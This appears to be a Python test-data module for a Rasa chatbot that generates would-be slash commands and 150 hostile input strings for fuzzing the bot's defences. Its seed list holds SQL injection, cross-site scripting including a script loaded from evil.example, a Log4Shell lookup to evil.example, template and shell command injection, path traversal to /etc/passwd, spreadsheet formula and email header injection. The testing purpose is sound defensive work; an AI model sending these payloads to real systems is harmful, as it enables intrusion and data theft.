"""What people type to break in: 200 would-be commands, and 150 texts that some program down the line might obey."""

from __future__ import annotations

import yaml

from lifecycle.settings import PROJECT

DOMAIN = yaml.safe_load((PROJECT / "domain.yml").read_text(encoding="utf-8"))
INTENTS = [next(iter(each)) if isinstance(each, dict) else each for each in DOMAIN["intents"]]
ENTITIES = [next(iter(each)) if isinstance(each, dict) else each for each in DOMAIN["entities"]]
# Everything str.strip() removes, and what only looks like nothing or like a slash.
STRIPPED = [chr(code) for code in range(0x110000) if chr(code).isspace()]
LOOKALIKES = [
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00ad",
    "\u200b/",
    "\uff0f",
    "\u2044",
    "\u2215",
    "//",
    "\\/",
    "\u202e/",
    "/\u200b",
]
RASAS_OWN = [
    "/restart",
    "/session_start",
    "/back",
    "/action_listen",
    "EXTERNAL: follow_up",
    "EXTERNAL_follow_up",
    "/EXTERNAL_follow_up",
]
RASAS_OWN += [
    "/out_of_scope",
    "/nlu_fallback",
    '/restart{"x": "y"}',
    "/",
    "//",
    "/{",
    '/{"nps_score": 10}',
    "/ restart",
]


def commands() -> list[str]:
    """At least 200: every intent with every entity in turn, behind every prefix, and Rasa's own words."""
    plain = [f"/{intent}" for intent in INTENTS]
    for number, intent in enumerate(INTENTS):
        entity = ENTITIES[number % len(ENTITIES)]
        plain += [f'/{intent}{{"{entity}": "10"}}', f'/{intent}@0.99{{"{entity}": ["a", {{"b": 1}}]}}']
        plain.append(f'\u00a0/{intent}@1.0[{{"entity": "{entity}"}}]')
    hidden = [f'{prefix}/answer{{"kind": "nps", "value": "10"}}' for prefix in (*STRIPPED, *LOOKALIKES)]
    found = list(dict.fromkeys([*plain, *hidden, *RASAS_OWN]))
    assert len(STRIPPED) == 29 and len(found) >= 200, (len(STRIPPED), len(found))
    return found


_SEEDS = [
    "' OR '1'='1",
    "'; DROP TABLE message; --",
    '" UNION SELECT password_hash FROM staff --',
    "1; SELECT pg_sleep(9)",
    "%_%",
    "\\'; --",
    "x' AND 1=CAST((SELECT email FROM staff) AS int) --",
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "</textarea><script>window.hacked=1</script>",
    '"><script src=//evil.example/x.js></script>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<a href=javascript:window.hacked=1>x</a>",
    "<style>*{display:none}</style>",
    "<!--",
    "]]>",
    "<base href=//evil.example>",
    "&lt;b&gt;&amp;",
    "<b>bold</b>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(name)s",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/hacked)",
    "`id`",
    "|| id",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "javascript:window.hacked=1",
    "data:text/html,<script>1</script>",
    "=1+1",
    '=HYPERLINK("http://evil.example")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "a\r\nBcc: everybody@example.org",
    "a\nSubject: changed",
    "a\r\n\r\n<script>window.hacked=1</script>",
    "a\u2028b\u2029c",
    "a\x0bb\x0cc\x85d",
    "a\x00b",
    "\x00",
    "\x1b[31mred",
    "\x7f",
    "\ud800",
    "a\udc00b",
    "\udfff\ud800",
    "\ufffe\uffff",
    "\ufdd0",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "abc \u05d0\u05d1\u05d2 123",
    "\u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343" * 20,
    "🙂🙂",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "\U0001f1e8\U0001f1e6",
    "e\u0301",
    "\u212b",
    "\ufb01",
    "ﷺ" * 30,
    "I\u0307",
    "ß",
    "ＡＢＣ",
    "１２３",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    "[[[[[[",
    '{"text": "x"}',
    "0x10",
    "1e309",
    "-0",
    "9" * 400,
    "*bold* _it_ [x](javascript:1)",
    "**" * 200,
    "[a](http://[::1]:8000)",
    "http://[",
    "https://\u0430pple.example",
    "mailto:a@b?bcc=c",
    "a" * 900,
    "w" * 999,
    "a " * 480,
    "\n" * 40 + "x",
    "/" * 500,
    "?" * 300,
    "." * 999,
    "ا" * 999,
    "[USER_NAME]",
    "{order}",
    "{name}",
    "utter_greet",
    "action_restart",
    "| a | b |\n|---|---|",
    "A | B\nx: 1 | 2",
    "1. a\n2. b",
    "- a\n- b",
]


def texts() -> list[str]:
    """150 texts; each is at most 1,000 characters."""
    wrapped = [f"Ada {seed[:200]} & co" for seed in _SEEDS]
    found = list(dict.fromkeys([*_SEEDS, *wrapped]))[:150]
    assert len(found) == 150 and all(len(each) <= 1_000 for each in found)
    return found
